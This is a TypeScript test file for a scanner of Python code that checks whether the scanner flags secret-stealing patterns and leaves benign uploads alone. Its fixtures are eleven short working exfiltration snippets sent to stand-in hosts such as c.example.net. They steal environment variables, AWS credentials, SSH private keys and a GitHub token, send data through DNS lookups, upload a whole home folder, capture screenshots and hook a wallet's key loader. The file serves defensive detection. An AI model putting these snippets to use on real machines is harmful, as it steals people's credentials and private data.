import { expect, test } from 'vitest'
import { scanPython } from './scan-python'

/** What leaves the computer by another way than one request with one body. */
const WAYS: readonly [string, string, string[]][] = [
  [
    'through a queue',
    'flow.environment.network',
    [
      'import os, queue, requests',
      'q = queue.Queue()',
      'for k, v in os.environ.items():',
      '    q.put((k, v))',
      "requests.post('https://c.example.net', data=q.get())",
    ],
  ],
  [
    'in an archive',
    'flow.credentials.network',
    [
      'import os, zipfile, requests',
      "z = zipfile.ZipFile('/tmp/out.zip', 'w')",
      "z.write(os.path.expanduser('~/.aws/credentials'))",
      'z.close()',
      "requests.post('https://c.example.net', files={'f': open('/tmp/out.zip', 'rb')})",
    ],
  ],
  [
    'as an open file of an upload',
    'flow.credentials.network',
    [
      'import ftplib, os',
      "f = ftplib.FTP('ftp.example.net')",
      "f.storbinary('STOR k', open(os.path.expanduser('~/.ssh/id_rsa'), 'rb'))",
    ],
  ],
  [
    'as the path that an upload takes',
    'flow.credentials.network',
    [
      'import boto3, os',
      "boto3.client('s3').upload_file(os.path.expanduser('~/.ssh/id_rsa'), 'drop', 'k')",
    ],
  ],
  [
    'to a tracker of experiments',
    'flow.environment.network',
    ['import os, wandb', "wandb.log({'env': dict(os.environ)})"],
  ],
  [
    'in the names of hosts, piece by piece',
    'flow.environment.network',
    [
      'import os, socket',
      "key = os.environ['GITHUB_TOKEN'].encode().hex()",
      'for i in range(0, 60, 30):',
      "    socket.getaddrinfo(key[i:i + 30] + '.x.example.net', 80)",
    ],
  ],
  [
    'out of a program',
    'flow.environment.network',
    [
      'import subprocess, requests',
      "out = subprocess.check_output(['printenv'])",
      "requests.post('https://c.example.net', data=out)",
    ],
  ],
  [
    'out of every file below a home folder',
    'flow.credentials.network',
    [
      'import os, requests',
      "for folder, _, files in os.walk(os.path.expanduser('~')):",
      '    for name in files:',
      "        with open(os.path.join(folder, name), 'rb') as file:",
      "            requests.post('https://c.example.net', files={'f': file})",
    ],
  ],
  [
    'as a token of the hub',
    'flow.environment.network',
    [
      'import requests',
      'from huggingface_hub import get_token',
      "requests.get('https://c.example.net/?t=' + get_token())",
    ],
  ],
  [
    'as a picture of the screen',
    'threat.surveillance',
    [
      'import io, requests',
      'from PIL import ImageGrab',
      'buffer = io.BytesIO()',
      "ImageGrab.grab().save(buffer, 'PNG')",
      "requests.post('https://c.example.net', data=buffer.getvalue())",
    ],
  ],
  [
    'by a function that replaces another one',
    'threat.loader-patch',
    [
      'import wallet, requests',
      'old = wallet.Keys.load',
      'def load(data):',
      "    requests.post('https://c.example.net', json={'d': data})",
      '    return old(data)',
      'wallet.Keys.load = load',
    ],
  ],
]

test.each(WAYS)('what is secret is followed %s', (_, name, lines) => {
  expect(scanPython(lines.join('\n')).names('code')).toContain(name)
})

const HONEST: readonly [string, string[]][] = [
  [
    'a token in the header of a request',
    [
      'import requests',
      'from huggingface_hub import get_token',
      "requests.get('https://huggingface.co/api/whoami-v2', headers={'Authorization': get_token()})",
    ],
  ],
  [
    'numbers for a tracker',
    ['import mlflow, os', "mlflow.log_param('host', os.environ.get('HOSTNAME'))"],
  ],
  [
    'the metadata of a machine that goes back to it',
    [
      'import requests',
      "t = requests.put('http://169.254.169.254/latest/api/token').text",
      "requests.get('http://169.254.169.254/latest/meta-data/placement/region', headers={'X': t})",
    ],
  ],
  [
    'a picture of the screen for a model',
    [
      'import pyautogui, requests',
      "requests.post('https://api.openai.com/v1/x', json={'p': pyautogui.screenshot()})",
    ],
  ],
  [
    'a data set in an archive',
    [
      'import zipfile, requests',
      "z = zipfile.ZipFile('out.zip', 'w')",
      "z.write('data/train.csv')",
      "requests.post('https://c.example.net', files={'f': open('out.zip', 'rb')})",
    ],
  ],
]

test.each(HONEST)('%s is no leak', (_, lines) => {
  expect(scanPython(lines.join('\n')).names('code')).not.toEqual(
    expect.arrayContaining([
      expect.stringMatching(/^(flow\.(environment|credentials)\.network|threat)/),
    ]),
  )
})
